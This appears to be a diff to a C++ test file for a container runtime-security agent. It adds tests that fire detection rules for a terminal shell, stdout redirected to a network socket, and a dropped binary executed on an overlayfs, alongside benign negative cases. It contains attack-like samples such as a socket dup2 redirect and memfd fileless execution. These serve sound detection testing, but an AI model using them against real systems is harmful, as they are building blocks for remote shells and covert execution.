@@ -5,10 +5,8 @@
 // tmpfs; connections inside a private network namespace where 203.0.113.10
 // and 198.51.100.20 live on lo, and pool names come from a private hosts file.
 //
-// Rules whose inputs the agent does not produce yet are covered by the
-// replayed events of policies_test.cpp only: Terminal shell in container
-// (proc.tty), Drop and execute new binary in container
-// (proc.is_exe_upper_layer) and Redirect STDOUT/STDIN (dup events).
+// A terminal comes from a pty the test opens (python's pty.fork runs the
+// agent as the session leader of a new pty).
 #include <catch2/catch.hpp>
 
 #include <sys/wait.h>
@@ -129,6 +127,37 @@ void WriteListener() {
 
 bool Has(const std::set<std::string>& s, const std::string& rule) { return s.count(rule) > 0; }
 
+// Whether the last Fire captured an event of `type` with evt.res `res` whose
+// process is named `proc`: a benign case is only meaningful when the rule
+// saw the event it did not fire on.
+bool Captured(const std::string& type, int64_t res, const std::string& proc) {
+  std::ifstream in(S().dir / "events.jsonl");
+  std::string line;
+  while (std::getline(in, line)) {
+    auto j = nlohmann::json::parse(line, nullptr, false);
+    if (j.value("evt.type", "") == type && j.value("evt.res", int64_t{-1}) == res && j.value("proc.name", "") == proc) {
+      return true;
+    }
+  }
+  return false;
+}
+
+// Runs "$@" as the session leader of a new pty, draining its output. (The
+// script is not named pty.py: it would shadow the module it imports.)
+std::string OnPty() {
+  std::ofstream(S().dir / "on_pty.py") << "import os, pty, sys\n"
+                                       "pid, fd = pty.fork()\n"
+                                       "if pid == 0:\n"
+                                       "    os.execvp(sys.argv[1], sys.argv[1:])\n"
+                                       "while True:\n"
+                                       "    try:\n"
+                                       "        if not os.read(fd, 4096): break\n"
+                                       "    except OSError:\n"
+                                       "        break\n"
+                                       "sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))\n";
+  return "exec python3 $T/on_pty.py \"$@\"";
+}
+
 }  // namespace
 
 TEST_CASE("demo: a web app reading /etc/shadow, then curl to a miner", "[rules][agent]") {
@@ -210,4 +239,42 @@ TEST_CASE("process rules on real processes", "[rules][agent]") {
                                            "os.execv(\"/proc/self/fd/%d\" % fd, [\"payload\"])\n";
   CHECK(Has(Fire("python3 $T/memfd.py"), "Fileless execution via memfd_create"));
   CHECK_FALSE(Has(Fire("cp /bin/true $T/payload && $T/payload"), "Fileless execution via memfd_create"));
+}
+
+TEST_CASE("terminal and stream redirection rules on real processes", "[rules][agent]") {
+  // The workload (a shell, the container's entrypoint) on a terminal, then
+  // the same shell in a new session without one.
+  CHECK(Has(Fire("true", OnPty()), "Terminal shell in container"));
+  CHECK_FALSE(Has(Fire("true", "exec setsid -w \"$@\""), "Terminal shell in container"));
+  CHECK(Captured("execve", 0, "sh"));
+
+  WriteListener();
+  std::ofstream(S().dir / "redirect.py") << "import os, socket, sys, time\n"
+                                            "for i in range(200):\n"
+                                            "    try:\n"
+                                            "        s = socket.create_connection(('203.0.113.10', 8443), timeout=5)\n"
+                                            "        break\n"
+                                            "    except OSError:\n"
+                                            "        time.sleep(0.05)\n"
+                                            "else:\n"
+                                            "    sys.exit(1)\n"
+                                            "os.dup2(s.fileno(), 1)\n";
+  CHECK(Has(Fire("python3 $T/redirect.py", Net()), "Redirect STDOUT/STDIN to network connection in container"));
+  CHECK_FALSE(Has(Fire("python3 -c 'import os; os.dup2(os.open(\"/etc/hostname\", os.O_RDONLY), 1)'"),
+                  "Redirect STDOUT/STDIN to network connection in container"));
+  CHECK(Captured("dup2", 1, "python3"));
+}
+
+TEST_CASE("drop and execute on a real overlayfs", "[rules][agent]") {
+  // An image-like overlay in a private mount namespace: `base` is in the
+  // lower layer (the image), anything written through the mount lands in
+  // the upper one.
+  std::string overlay =
+      "exec unshare --mount sh -c 'rm -rf $T/ov && mkdir -p $T/ov/lower $T/ov/upper $T/ov/work $T/ov/merged && "
+      "cp /bin/true $T/ov/lower/base && mount -t overlay ov -o "
+      "lowerdir=$T/ov/lower,upperdir=$T/ov/upper,workdir=$T/ov/work $T/ov/merged && exec \"$@\"' sh \"$@\"";
+  CHECK(Has(Fire("cp /bin/true $T/ov/merged/dropped && $T/ov/merged/dropped", overlay),
+            "Drop and execute new binary in container"));
+  CHECK_FALSE(Has(Fire("$T/ov/merged/base", overlay), "Drop and execute new binary in container"));
+  CHECK(Captured("execve", 0, "base"));
 }
